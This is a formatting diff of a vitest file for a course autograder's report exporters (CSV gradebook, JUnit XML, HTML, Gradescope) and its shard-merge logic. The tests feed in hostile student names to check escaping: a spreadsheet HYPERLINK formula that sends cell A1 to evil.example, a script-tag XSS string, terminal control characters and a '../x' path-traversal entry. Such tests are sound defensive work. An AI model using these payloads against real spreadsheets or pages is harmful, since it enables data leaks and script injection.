@@ -3,7 +3,13 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, test } from 'vitest';
 import { mergeRuns } from '../merge';
-import { classResultSchema, type CheckGrade, type ClassResult, type ExerciseGrade, type StudentResult } from '../result';
+import {
+  classResultSchema,
+  type CheckGrade,
+  type ClassResult,
+  type ExerciseGrade,
+  type StudentResult,
+} from '../result';
 import type { SimilarPair } from '../similarity';
 import { gradebookCsv } from './gradebook';
 import { gradescopeResults, points } from './gradescope';
@@ -12,6 +18,7 @@ import { junitXml } from './junit';
 
 const SCRIPT = '<script>alert(1)</script>';
 const ESCAPED_SCRIPT = '&lt;script&gt;alert(1)&lt;/script&gt;';
+// biome-ignore lint/suspicious/noControlCharactersInRegex: what junit.ts must remove
 const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/;
 
 /** A graded 05-softmax: three checks sharing 10 points, passed as given. */
@@ -28,7 +35,14 @@ function softmaxGrade(passed: [boolean, boolean, boolean], failure = 'row 0 sums
     score: passed[i] ? 10 / 3 : 0,
     maxScore: 10 / 3,
   }));
-  return { id: '05-softmax', status: 'graded', score: checks.reduce((s, c) => s + c.score, 0), maxScore: 10, checks, ms: 120 };
+  return {
+    id: '05-softmax',
+    status: 'graded',
+    score: checks.reduce((s, c) => s + c.score, 0),
+    maxScore: 10,
+    checks,
+    ms: 120,
+  };
 }
 
 const missing: ExerciseGrade = {
@@ -70,13 +84,23 @@ function run(students: StudentResult[], extra: Partial<ClassResult> = {}): Class
 }
 
 describe('gradebookCsv', () => {
-  const names = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '+1', '@x', '-2', '\tTab', 'bob, jr', 'say "hi"', 'two\nlines', 'alice'];
+  const names = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
+    '+1',
+    '@x',
+    '-2',
+    '\tTab',
+    'bob, jr',
+    'say "hi"',
+    'two\nlines',
+    'alice',
+  ];
   const csv = gradebookCsv(run(names.map((n) => student(n, [missing, softmaxGrade([true, true, false])]))));
 
   test('a cell a spreadsheet would read as a formula gets a leading apostrophe, and cells are quoted where CSV needs it', () => {
     const row = '0,6.67,6.67,20,0';
     expect(csv).toBe(
-      [
+      `${[
         'student,01-synthetic-data,05-softmax,total,max,problems',
         `"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",${row}`,
         `'+1,${row}`,
@@ -87,7 +111,7 @@ describe('gradebookCsv', () => {
         `"say ""hi""",${row}`,
         `"two\nlines",${row}`,
         `alice,${row}`,
-      ].join('\n') + '\n',
+      ].join('\n')}\n`,
     );
   });
 
@@ -99,7 +123,10 @@ describe('gradebookCsv', () => {
 
 describe('junitXml', () => {
   const hostile = run([
-    student(SCRIPT, [missing, softmaxGrade([true, false, false], `${SCRIPT} & "quotes" 'too' \u0000\u0007\u001b[31mred\u001b[0m`)]),
+    student(SCRIPT, [
+      missing,
+      softmaxGrade([true, false, false], `${SCRIPT} & "quotes" 'too' \u0000\u0007\u001b[31mred\u001b[0m`),
+    ]),
     student('alice', [missing, softmaxGrade([true, true, true])]),
   ]);
   const xml = junitXml(hostile);
@@ -120,9 +147,13 @@ describe('junitXml', () => {
     expect(xml.match(/<testsuite /g)).toHaveLength(2);
     expect(xml).toContain('tests="4" failures="3" time="1.500"');
     expect(xml).toContain('tests="4" failures="1" time="1.500"');
-    expect(xml).toContain('<testcase classname="alice.01-synthetic-data" name="graded"><failure message="no 01-synthetic-data/synthetic-data.ts in the submission"/></testcase>');
+    expect(xml).toContain(
+      '<testcase classname="alice.01-synthetic-data" name="graded"><failure message="no 01-synthetic-data/synthetic-data.ts in the submission"/></testcase>',
+    );
     expect(xml).toContain('<testcase classname="alice.05-softmax" name="matches tf.softmax"></testcase>');
-    expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<testsuites name="d2l-ts grade, seed 7">')).toBe(true);
+    expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<testsuites name="d2l-ts grade, seed 7">')).toBe(
+      true,
+    );
     expect(xml.trimEnd().endsWith('</testsuites>')).toBe(true);
   });
 });
@@ -130,7 +161,11 @@ describe('junitXml', () => {
 describe('htmlReport', () => {
   const hostile = run(
     [
-      student(SCRIPT, [{ ...missing, reason: `no file ${SCRIPT}` }, softmaxGrade([true, false, true], SCRIPT)], [`archive entry ${SCRIPT} skipped`]),
+      student(
+        SCRIPT,
+        [{ ...missing, reason: `no file ${SCRIPT}` }, softmaxGrade([true, false, true], SCRIPT)],
+        [`archive entry ${SCRIPT} skipped`],
+      ),
       student('alice', [missing, softmaxGrade([true, true, true])]),
     ],
     { problems: [`${SCRIPT}.txt: not a folder or a .zip/.tar.gz archive; ignored`] },
@@ -163,8 +198,15 @@ describe('htmlReport', () => {
 });
 
 describe('gradescopeResults', () => {
-  const typed = { ...softmaxGrade([true, true, false]), typeErrors: ['softmax.ts(3,7): Type string is not assignable to type number.'] };
-  const s = student('alice', [missing, typed], ['alice.zip: entry "../x" would be written outside the submission (path traversal); skipped']);
+  const typed = {
+    ...softmaxGrade([true, true, false]),
+    typeErrors: ['softmax.ts(3,7): Type string is not assignable to type number.'],
+  };
+  const s = student(
+    'alice',
+    [missing, typed],
+    ['alice.zip: entry "../x" would be written outside the submission (path traversal); skipped'],
+  );
   const r = run([s]);
   const results = gradescopeResults(s, r);
 
@@ -194,12 +236,16 @@ describe('gradescopeResults', () => {
 
   test('a failed check tells what failed and on what input; type errors are noted once, with no points deducted', () => {
     expect(results.tests[3]!.output).toBe('row 0 sums to 1.2, not 1\non input [[1, 2], [3, 4]]');
-    expect(results.tests[1]!.output).toBe('passed\ntype errors (no points deducted):\nsoftmax.ts(3,7): Type string is not assignable to type number.');
+    expect(results.tests[1]!.output).toBe(
+      'passed\ntype errors (no points deducted):\nsoftmax.ts(3,7): Type string is not assignable to type number.',
+    );
     expect(results.tests.filter((t) => t.output.includes('type errors'))).toHaveLength(1);
   });
 
   test("the submission's problems and the seed are in the overall output", () => {
-    expect(results.output).toBe('graded by d2l-ts with seed 7\nalice.zip: entry "../x" would be written outside the submission (path traversal); skipped');
+    expect(results.output).toBe(
+      'graded by d2l-ts with seed 7\nalice.zip: entry "../x" would be written outside the submission (path traversal); skipped',
+    );
     expect(results.execution_time).toBe(2);
   });
 });
@@ -215,9 +261,21 @@ describe('mergeRuns', () => {
     writeFileSync(join(dir, 'grading.json'), JSON.stringify(r));
     return { dir, file: join(dir, 'grading.json') };
   };
-  const [alice, bob, carol] = ['alice', 'bob', 'carol'].map((n, i) => student(n, [missing, softmaxGrade([true, i > 0, i > 1])]));
-  const one = run([carol!, alice!], { shard: { index: 1, count: 2 }, startedAt: '2026-01-01T10:00:05.000Z', ms: 1000, problems: ['notes.txt: not a folder or a .zip/.tar.gz archive; ignored'] });
-  const two = run([bob!], { shard: { index: 2, count: 2 }, startedAt: '2026-01-01T10:00:00.000Z', ms: 3000, problems: ['notes.txt: not a folder or a .zip/.tar.gz archive; ignored', 'x: y'] });
+  const [alice, bob, carol] = ['alice', 'bob', 'carol'].map((n, i) =>
+    student(n, [missing, softmaxGrade([true, i > 0, i > 1])]),
+  );
+  const one = run([carol!, alice!], {
+    shard: { index: 1, count: 2 },
+    startedAt: '2026-01-01T10:00:05.000Z',
+    ms: 1000,
+    problems: ['notes.txt: not a folder or a .zip/.tar.gz archive; ignored'],
+  });
+  const two = run([bob!], {
+    shard: { index: 2, count: 2 },
+    startedAt: '2026-01-01T10:00:00.000Z',
+    ms: 3000,
+    problems: ['notes.txt: not a folder or a .zip/.tar.gz archive; ignored', 'x: y'],
+  });
 
   test('two shards merge into the union of their students, sorted, with the earliest start and the longest time', () => {
     const merged = mergeRuns([shard(one).dir, shard(two).dir]);
@@ -235,13 +293,19 @@ describe('mergeRuns', () => {
 
   test('shards graded with different seeds are refused, naming both files', () => {
     const [a, b] = [shard(one), shard({ ...two, seed: 8 })];
-    expect(() => mergeRuns([a.dir, b.dir])).toThrow(`${b.file}: seed 8 differs from ${a.file}'s 7: the shards were not graded alike`);
+    expect(() => mergeRuns([a.dir, b.dir])).toThrow(
+      `${b.file}: seed 8 differs from ${a.file}'s 7: the shards were not graded alike`,
+    );
   });
 
   test('shards graded with a different rubric or runs scale are refused, naming both files', () => {
     const [a, b, c] = [shard(one), shard({ ...two, rubric: 'strict.json' }), shard({ ...two, runsScale: 2 })];
-    expect(() => mergeRuns([a.dir, b.dir])).toThrow(`${b.file}: rubric strict.json differs from ${a.file}'s rubrics/default.json: the shards were not graded alike`);
-    expect(() => mergeRuns([a.dir, c.dir])).toThrow(`${c.file}: runsScale 2 differs from ${a.file}'s 1: the shards were not graded alike`);
+    expect(() => mergeRuns([a.dir, b.dir])).toThrow(
+      `${b.file}: rubric strict.json differs from ${a.file}'s rubrics/default.json: the shards were not graded alike`,
+    );
+    expect(() => mergeRuns([a.dir, c.dir])).toThrow(
+      `${c.file}: runsScale 2 differs from ${a.file}'s 1: the shards were not graded alike`,
+    );
   });
 
   test('shards that graded different exercises are refused, naming both files', () => {
@@ -260,7 +324,9 @@ describe('mergeRuns', () => {
     expect(() => mergeRuns([empty])).toThrow(`${join(empty, 'grading.json')}: ENOENT: no such file or directory`);
     const bad = shard(one);
     writeFileSync(bad.file, JSON.stringify({ ...one, seed: 1.5 }));
-    expect(() => mergeRuns([bad.dir])).toThrow(new RegExp(`^${bad.file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: seed: .+$`));
+    expect(() => mergeRuns([bad.dir])).toThrow(
+      new RegExp(`^${bad.file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: seed: .+$`),
+    );
     expect(() => mergeRuns([])).toThrow('nothing to merge: name the output folders of the shards');
   });
 });
